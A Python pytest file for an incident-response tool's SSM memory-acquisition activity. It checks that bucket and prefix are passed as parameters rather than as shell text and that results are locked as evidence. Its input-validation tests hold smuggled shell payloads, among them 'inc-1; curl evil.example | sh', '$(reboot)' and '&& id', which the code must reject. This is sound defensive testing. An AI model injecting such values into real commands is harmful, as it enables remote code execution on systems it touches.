"""Memory acquisition over SSM against moto: the capture document is sent once with the bucket and the prefix as its
parameters (never pasted into shell text), a value with shell syntax is refused before anything is sent, and how
the command ended is kept as evidence, locked."""

from __future__ import annotations

import json

import boto3
import pytest
from temporalio.exceptions import ApplicationError

from activities.memory import acquire_memory
from activities.memory_document import CAPTURE_MEMORY_DOCUMENT, ensure_capture_memory_document
from irflow.models.errors import INVALID_REQUEST
from irflow.models.settings import get_settings
from tests.activities.evidence_support import (
    INCIDENT_ID,
    assert_locked_evidence,
    instance_commands,
    stored_bytes,
    target_fixture,  # noqa: F401  (a fixture: pytest finds it in the module)
)


@pytest.fixture(autouse=True)
def capture_document(workload):
    """The capture document, as the dev stack and infra/ssm-capture-memory.json create it."""
    ssm = boto3.client("ssm", region_name=workload.region)
    ensure_capture_memory_document(ssm)  # the workload fixture made it already, as the dev stack does
    assert ensure_capture_memory_document(ssm) is False, "created once"
    return json.loads(ssm.get_document(Name=CAPTURE_MEMORY_DOCUMENT)["Content"])


def test_acquire_memory_records_the_ssm_command_and_how_it_ended(workload, target):
    result = acquire_memory(target)
    [command] = instance_commands(workload)
    assert result.command_id == command["CommandId"]
    assert result.status == "Success"  # moto's SSM reports success at once
    assert result.document == CAPTURE_MEMORY_DOCUMENT == command["DocumentName"]
    record = json.loads(stored_bytes(workload, result.evidence))
    assert record["command_id"] == command["CommandId"] and record["status"] == "Success"
    assert record["parameters"] == command["Parameters"]
    assert_locked_evidence(workload, result.evidence)


def test_the_bucket_and_prefix_are_parameters_and_no_value_is_in_the_shell_text(workload, target, capture_document):
    acquire_memory(target)
    [command] = instance_commands(workload)
    assert command["Parameters"] == {
        "bucket": [workload.evidence_bucket],
        "prefix": [f"incidents/{INCIDENT_ID}/"],
    }
    shell = "\n".join(capture_document["mainSteps"][0]["inputs"]["runCommand"])
    assert INCIDENT_ID not in shell and workload.evidence_bucket not in shell
    assert "{{ bucket }}" in shell and "$SSM_prefix" in shell.replace("${SSM_prefix}", "$SSM_prefix")
    for name, declared in capture_document["parameters"].items():
        assert declared["interpolationType"] == "ENV_VAR" and declared["allowedPattern"].startswith("^"), name
    assert command["OutputS3KeyPrefix"] == f"incidents/{INCIDENT_ID}/memory/ssm-output"


@pytest.mark.parametrize(
    ("field", "value"),
    [
        ("incident_id", "inc-1; curl evil.example | sh"),
        ("incident_id", "inc-$(reboot)"),
        ("incident_id", "../../etc"),
        ("instance_id", "i-0123456789abcdef0 && id"),
    ],
)
def test_a_target_value_with_shell_syntax_is_refused_before_sending(workload, target, field, value):
    with pytest.raises(ApplicationError) as refused:
        acquire_memory(target.model_copy(update={field: value}))
    assert refused.value.type == INVALID_REQUEST and refused.value.non_retryable
    assert instance_commands(workload) == []


@pytest.mark.parametrize("bucket", ["evidence;reboot", "evidence bucket", "evidence$(id)", "x"])
def test_an_evidence_bucket_with_shell_syntax_is_refused_before_sending(workload, target, monkeypatch, bucket):
    monkeypatch.setenv("IRFLOW_EVIDENCE_BUCKET", bucket)
    get_settings.cache_clear()
    with pytest.raises(ApplicationError) as refused:
        acquire_memory(target)
    assert refused.value.type == INVALID_REQUEST and "bucket name" in str(refused.value)
    assert instance_commands(workload) == []


def test_acquire_memory_twice_sends_one_command(workload, target):
    first = acquire_memory(target)
    second = acquire_memory(target)
    assert second.command_id == first.command_id
    assert [c["CommandId"] for c in instance_commands(workload)] == [first.command_id]
